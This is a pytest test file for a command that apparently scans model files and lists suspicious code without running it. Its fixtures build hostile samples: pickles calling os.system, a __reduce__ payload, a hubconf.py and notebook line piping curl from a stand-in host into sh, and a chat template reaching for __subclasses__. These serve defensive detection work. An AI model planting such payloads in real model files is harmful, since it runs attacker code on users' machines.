"""`malhug explain`: the program or source of one file, with findings on their lines; never run."""
from __future__ import annotations

import json
import struct

import pytest

import opcodes as op

from malhug.cli import EXIT_CLEAN, EXIT_ERROR, EXIT_FINDINGS, main
from malhug.explain import explain, split_target


def _marked(text: str, needle: str) -> list[str]:
    """The listing line holding needle, and the marker lines right after it."""
    lines = text.splitlines()
    index = next(i for i, line in enumerate(lines) if needle in line and not line.lstrip().startswith("^"))
    marks = []
    for line in lines[index + 1:]:
        if not line.lstrip().startswith("^"):
            break
        marks.append(line)
    return [lines[index]] + marks


def test_malicious_pickle(tmp_path, capsys):
    marker = tmp_path / "ran"
    target = tmp_path / "evil.pkl"
    target.write_bytes(op.call("os", "system", f"touch {marker}"))
    assert main(["explain", str(target)]) == EXIT_FINDINGS
    out = capsys.readouterr().out
    line, *marks = _marked(out, "os.system(")
    assert line.startswith(">") and "_v0 = os.system(" in line
    assert marks and "pickle-dangerous-callable" in marks[0] and "critical" in marks[0]
    assert "import os" in out and "result_0 = _v0" in out
    assert not marker.exists()


def test_long_literals_are_shown_whole(tmp_path):
    command = "echo " + "A" * 5000
    target = tmp_path / "long.pkl"
    target.write_bytes(op.call("os", "system", command))
    assert command in explain(str(target)).render()


def _torch_zip(tmp_path):
    torch = pytest.importorskip("torch")
    import os

    class Payload:
        def __reduce__(self):
            return (os.system, ("id",))

    target = tmp_path / "model.pt"
    torch.save({"weight": torch.zeros(2), "hook": Payload()}, target)
    return target


def test_torch_zip_member(tmp_path, capsys):
    target = _torch_zip(tmp_path)
    assert main(["explain", f"{target}:model/data.pkl"]) == EXIT_FINDINGS
    out = capsys.readouterr().out
    assert "model.pt:model/data.pkl: the program loading this pickle runs" in out
    assert "torch._utils._rebuild_tensor_v2(" in out
    line, *marks = _marked(out, "posix.system('id')")
    assert line.startswith(">") and "pickle-dangerous-callable" in marks[0]
    # the top folder of a PyTorch archive varies: archive/data.pkl names the same member
    assert main(["explain", f"{target}:archive/data.pkl"]) == EXIT_FINDINGS
    assert "model.pt:model/data.pkl" in capsys.readouterr().out
    assert main(["explain", f"{target}:archive/nothing.pkl"]) == EXIT_ERROR
    assert "no member" in capsys.readouterr().err


def test_whole_torch_file_lists_its_pickles(tmp_path):
    target = _torch_zip(tmp_path)
    text = explain(str(target)).render()
    assert "model/data.pkl: the program loading this pickle runs" in text


def test_python_source(tmp_path):
    target = tmp_path / "hubconf.py"
    target.write_text("import os\n\n\ndef load():\n    return 1\n\nos.system('curl http://x.example/a | sh')\n")
    text = explain(str(target)).render()
    line, *marks = _marked(text, "os.system(")
    assert line.split()[:2] == [">", "7"]
    assert any("python-download-exec" in mark for mark in marks)
    assert "    1  import os" in text


def test_notebook(tmp_path):
    notebook = {"cells": [
        {"cell_type": "markdown", "source": "# hi"},
        {"cell_type": "code", "source": ["x = 1\n", "!curl http://x.example/a | sh\n"]},
    ], "metadata": {}, "nbformat": 4}
    target = tmp_path / "nb.ipynb"
    target.write_text(json.dumps(notebook))
    text = explain(str(target)).render()
    assert "notebook cell 1" in text
    line, *marks = _marked(text, "!curl")
    assert line.startswith(">") and "python-shell-escape" in marks[0]


TEMPLATE = "{% for m in messages %}{{ m.content }}\n{% endfor %}\n{{ ''.__class__.__mro__[1].__subclasses__() }}\n"


def _gguf(path, template: str):
    def text(value: bytes) -> bytes:
        return struct.pack("<Q", len(value)) + value

    pairs = [(b"general.name", b"tiny"), (b"tokenizer.chat_template", template.encode())]
    body = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in pairs)
    path.write_bytes(b"GGUF" + struct.pack("<I", 3) + struct.pack("<QQ", 0, len(pairs)) + body)


def test_gguf_chat_template(tmp_path):
    target = tmp_path / "tiny.gguf"
    _gguf(target, TEMPLATE)
    text = explain(str(target)).render()
    if "GGUF chat template" not in text:
        pytest.skip("the GGUF reader does not expose its metadata")
    line, *marks = _marked(text, "__subclasses__")
    assert line.startswith(">") and marks


def test_tokenizer_config_template(tmp_path):
    target = tmp_path / "tokenizer_config.json"
    target.write_text(json.dumps({"chat_template": TEMPLATE, "bos_token": "<s>"}))
    text = explain(str(target)).render()
    if "chat template chat_template" not in text:
        pytest.skip("no chat template reader for tokenizer configs")
    assert "__subclasses__" in text


def test_format_without_listing_shows_findings(tmp_path, capsys):
    target = tmp_path / "clean.safetensors"
    header = json.dumps({"__metadata__": {"format": "pt"}}).encode()
    target.write_bytes(struct.pack("<Q", len(header)) + header)
    code = main(["explain", str(target)])
    out = capsys.readouterr().out
    assert "no code listing for this format" in out
    assert code in (EXIT_CLEAN, 2)


def test_split_target(tmp_path):
    target = tmp_path / "a.zip"
    target.write_bytes(b"")
    assert split_target(str(target)) == (str(target), None)
    assert split_target(f"{target}:inner.tar:x/data.pkl") == (str(target), "inner.tar:x/data.pkl")
    with pytest.raises(ValueError):
        split_target(str(tmp_path / "missing.pkl"))


def test_missing_file_is_an_error(tmp_path, capsys):
    assert main(["explain", str(tmp_path / "missing.pkl")]) == EXIT_ERROR
    assert "no such file" in capsys.readouterr().err
